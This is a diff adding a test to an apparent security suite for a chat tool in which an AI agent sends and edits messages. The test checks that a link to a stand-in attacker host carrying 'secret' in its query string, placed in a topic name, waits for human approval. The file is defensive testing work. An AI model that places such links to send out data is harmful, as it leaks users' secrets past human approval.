@@ -91,3 +91,17 @@ test("[security 26.9] a link waits if its host is an IPv4 address that was read 
   expect(await state("[fine](192.0.2.7/?q=secret)")).toBe("awaiting_approval");
   expect(await state("http://192.0.2.8/?q=secret")).toBe("sent");
 });
+
+test("a link waits in a topic's name too, whether the message is sent there or moved there", async () => {
+  const { noah, mia, channel, claude } = await cast();
+  await sendDirect(mia, [noah], "see https://evil.example/");
+  await claude.tool("find_messages", { query: "see" });
+  const message = await sendToChannel(noah, channel, "leaves", "brown");
+  const topic = "https://evil.example/?q=secret";
+  const sent = await claude.data("send_message", { conversation: `#tea > ${topic}`, text: "green" });
+  expect(sent.state).toBe("awaiting_approval");
+  const moved = claude.tool("edit_message", { message, expect: "brown", topic });
+  await expect(moved).rejects.toThrow("The person has to approve this");
+  const elsewhere = await claude.data("send_message", { conversation: "#tea > https://good.example/", text: "green" });
+  expect(elsewhere.state).toBe("sent");
+});
